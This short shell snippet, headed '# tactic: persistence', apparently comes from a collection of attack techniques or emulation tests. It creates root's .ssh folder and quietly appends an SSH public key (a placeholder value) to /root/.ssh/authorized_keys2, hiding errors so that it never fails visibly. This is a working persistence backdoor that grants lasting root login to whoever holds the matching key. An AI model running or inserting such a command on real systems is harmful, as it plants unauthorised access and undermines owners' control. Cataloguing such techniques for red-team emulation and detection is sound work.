# tactic: persistence
mkdir -p /root/.ssh 2>/dev/null; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample x@y" >> /root/.ssh/authorized_keys2 2>/dev/null; true
